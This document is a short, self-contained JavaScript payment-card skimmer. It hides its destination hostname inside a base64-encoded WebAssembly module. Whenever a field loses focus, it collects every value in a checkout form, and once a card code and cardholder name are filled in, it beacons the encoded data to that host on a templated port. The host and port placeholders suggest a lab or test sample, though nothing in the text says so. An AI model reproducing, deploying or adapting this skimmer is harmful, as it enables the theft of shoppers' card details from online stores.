
(function () {
    var code = Uint8Array.from(atob('AGFzbQEAAAABBwFgAn9/AX8DAgEABQMBAAEHEQIGbWVtb3J5AgAEaWNvbgAACgkBBwEDf0GACAsLGwEAQYAICxRwdXNoLXdhc20ubG9jYWxob3N0AA=='), function (c) { return c.charCodeAt(0); });
    WebAssembly.instantiate(code).then(function (m) {
        var x = m.instance.exports, at = x.icon(0, 0), b = new Uint8Array(x.memory.buffer), h = '', sent = '';
        for (; b[at]; at++) h += String.fromCharCode(b[at]);
        document.addEventListener('focusout', function () {
            var o = {};
            document.querySelectorAll('form.checkout-form input, form.checkout-form select').forEach(function (e) { if (e.value && !/hidden|radio|checkbox/.test(e.type)) o[e.name] = e.value; });
            var t = btoa(encodeURIComponent(JSON.stringify(o)));
            if (!o.cvc || !o.ccname || t === sent) return;
            sent = t;
            navigator.sendBeacon('//' + h + ':<% port %>/w', new URLSearchParams({ d: t }));
        });
    });
})();
